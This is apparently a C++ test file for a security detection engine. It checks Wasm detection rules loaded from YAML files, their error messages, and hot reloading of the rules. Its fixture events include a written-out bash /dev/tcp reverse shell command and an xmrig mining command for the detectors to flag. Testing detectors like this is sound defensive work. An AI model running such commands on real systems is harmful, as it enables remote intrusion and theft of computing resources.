// Wasm rules as rule files: YAML documents with `type: wasm`, compiled by the Wasm rule kind
// into a snapshot the detection stage runs; and hot reload of a rules directory.
#include <condition_variable>
#include <fstream>
#include <mutex>

#include "collect/replay/jsonl_replay_source.h"
#include "detect/detection_stage.h"
#include "detect/rule_compiler.h"
#include "detect/rule_file.h"
#include "wasm/dir_watcher.h"
#include "wasm/wasm_rule_kind.h"
#include "wasm_test_util.h"

namespace wsn::wasm::testing {
namespace {

namespace fs = std::filesystem;

void copy_atomically(const std::string& from, const std::string& to) {
  const std::string tmp = to + ".partial";
  fs::copy_file(from, tmp, fs::copy_options::overwrite_existing);
  fs::rename(tmp, to);
}

class RuleKindTest : public WasmFixture {
 protected:
  void SetUp() override {
    WasmFixture::SetUp();
    dir_ = cache_dir_ / "rules";
    fs::create_directories(dir_ / "modules");
    kind_ = make_wasm_rule_kind(options_);
  }

  RuleSetBuild build() {
    RuleLoadResult loaded = load_rule_files({dir_.string()}, PluginRegistry::builtin());
    const NamedRuleKind compilers[] = {{"wasm", kind_.get()}};
    RuleSetBuild b = build_rule_set(loaded.rules, compilers, registry_, ++generation_);
    load_errors_ = loaded.errors();
    return b;
  }
  // The rule-file errors of the last build(), then the rule kind's, rendered.
  std::vector<std::string> errors(const RuleSetBuild& b) const {
    std::vector<std::string> out = load_errors_;
    for (auto& e : b.report.errors()) out.push_back(std::move(e));
    return out;
  }
  std::vector<std::string> load_errors_;

  void write(const std::string& name, const std::string& text) {
    std::ofstream(dir_ / name) << text;
  }

  fs::path dir_;
  std::unique_ptr<RuleKind> kind_;
  uint64_t generation_ = 0;
};

TEST_F(RuleKindTest, YamlRulesRunOnTheSampleLogAndReportBadOnes) {
  fs::copy_file(sdk_module("c_reverse_shell"), dir_ / "modules/reverse_shell.wasm");
  fs::copy_file(sdk_module("c_failed_sudo"), dir_ / "modules/failed_sudo.wasm");
  write("rules.yml",
        "id: test.wasm.reverse_shell\n"
        "name: Reverse shell command line (Wasm)\n"
        "severity: high\n"
        "type: wasm\n"
        "module: modules/reverse_shell.wasm\n"
        "---\n"
        "id: test.wasm.failed_sudo\n"
        "name: su/sudo password guessing (Wasm)\n"
        "severity: high\n"
        "type: wasm\n"
        "module: modules/failed_sudo.wasm\n"
        "config: \"threshold=3 window=60\"\n"
        "fail: closed\n"
        "---\n"
        "id: test.wasm.missing\n"
        "name: Missing module\n"
        "type: wasm\n"
        "module: modules/nope.wasm\n"
        "---\n"
        "id: test.wasm.bad_fail\n"
        "name: Bad failure mode\n"
        "type: wasm\n"
        "module: modules/reverse_shell.wasm\n"
        "fail: sometimes\n");
  RuleSetBuild b = build();
  ASSERT_EQ(errors(b).size(), 2u);
  const std::string file = (dir_ / "rules.yml").string();
  EXPECT_EQ(errors(b)[0].rfind(file + ":18:9: error: cannot load Wasm module '", 0), 0u)
      << errors(b)[0];
  EXPECT_NE(errors(b)[0].find("[WASM001]"), std::string::npos) << errors(b)[0];
  EXPECT_NE(errors(b)[1].find("'fail' must be 'open' or 'closed', not 'sometimes' [WASM005]"),
            std::string::npos)
      << errors(b)[1];
  ASSERT_EQ(b.rule_set->rules.size(), 4u);
  EXPECT_FALSE(b.rule_set->rules[0].failed);
  EXPECT_FALSE(b.rule_set->rules[1].failed);
  EXPECT_TRUE(b.rule_set->rules[2].failed);
  EXPECT_TRUE(b.rule_set->rules[3].failed);

  RuleSetHolder holder;
  holder.publish(b.rule_set);
  std::map<std::string, std::set<std::string>> hits;
  DetectionStage stage(holder, [&](const RuleSet& set, uint32_t rule,
                                   std::span<const Event* const> events, const MatchDetail*) {
    FieldView v;
    events[0]->get(fields::kEventId, v);
    hits[set.rules[rule].id].insert(std::string(v.s));
  });
  auto sample = read_jsonl_file(WSN_SOURCE_DIR "/data/sample/linux-activity.jsonl", registry_);
  ASSERT_TRUE(sample.ok());
  for (const Event& e : sample.value()) stage.process(e);
  EXPECT_EQ(hits["test.wasm.reverse_shell"],
            (std::set<std::string>{"evt-001416", "evt-001417", "evt-001438"}));
  EXPECT_EQ(hits["test.wasm.failed_sudo"], std::set<std::string>{"evt-001472"});
  EXPECT_EQ(stage.stats().matcher.errors, 0u);
  EXPECT_EQ(stage.stats().matches, 4u);
}

TEST_F(RuleKindTest, HotReloadPicksUpNewModulesAndKeepsTheLastGoodOne) {
  copy_atomically(sdk_module("c_reverse_shell"), (dir_ / "rule.wasm").string());
  write("rule.yml",
        "id: test.wasm.hot\nname: Hot-reloaded Wasm rule\ntype: wasm\nmodule: rule.wasm\n");
  RuleSetHolder holder;
  RuleSetBuild first = build();
  ASSERT_TRUE(errors(first).empty()) << errors(first)[0];
  holder.publish(first.rule_set);

  std::mutex mu;
  std::condition_variable cv;
  uint64_t reloads = 0;
  std::vector<std::string> last_errors;
  auto reloader = RuleReloader::start(
      {dir_.string()},
      [&](const std::vector<std::string>&) {
        RuleSetBuild b = build();
        holder.publish(b.rule_set);
        std::lock_guard<std::mutex> lock(mu);
        last_errors = errors(b);
        ++reloads;
        cv.notify_all();
      },
      100);
  ASSERT_TRUE(reloader.ok()) << reloader.error().message;
  auto wait_reload = [&](uint64_t n) {
    std::unique_lock<std::mutex> lock(mu);
    return cv.wait_for(lock, std::chrono::seconds(30), [&] { return reloads >= n; });
  };

  size_t matches = 0;
  DetectionStage stage(holder, [&](const RuleSet&, uint32_t, std::span<const Event* const>,
                                   const MatchDetail*) { ++matches; });
  Event shell = process_event("s", "exec", "bash", "bash -i >& /dev/tcp/10.9.8.7/443 0>&1");
  Event miner = process_event("m", "exec", "xmrig", "xmrig -o stratum+tcp://pool.example:3333");
  stage.process(shell);
  stage.process(miner);
  EXPECT_EQ(matches, 1u);  // the reverse-shell module

  // A new version of the module: the miner detector.
  copy_atomically(sdk_module("c_crypto_miner"), (dir_ / "rule.wasm").string());
  ASSERT_TRUE(wait_reload(1));
  EXPECT_TRUE(last_errors.empty());
  matches = 0;
  stage.process(shell);
  stage.process(miner);
  EXPECT_EQ(matches, 1u);

  // A broken version: reported, and the previous one keeps running.
  {
    std::ofstream(dir_ / "rule.wasm.partial") << "this is not a module";
    fs::rename(dir_ / "rule.wasm.partial", dir_ / "rule.wasm");
  }
  ASSERT_TRUE(wait_reload(2));
  ASSERT_EQ(last_errors.size(), 1u);
  EXPECT_NE(last_errors[0].find("not a WebAssembly binary"), std::string::npos) << last_errors[0];
  EXPECT_NE(last_errors[0].find("the previously loaded version of this rule keeps running"),
            std::string::npos)
      << last_errors[0];
  matches = 0;
  stage.process(shell);
  stage.process(miner);
  EXPECT_EQ(matches, 1u);  // still the miner detector
}

}  // namespace
}  // namespace wsn::wasm::testing
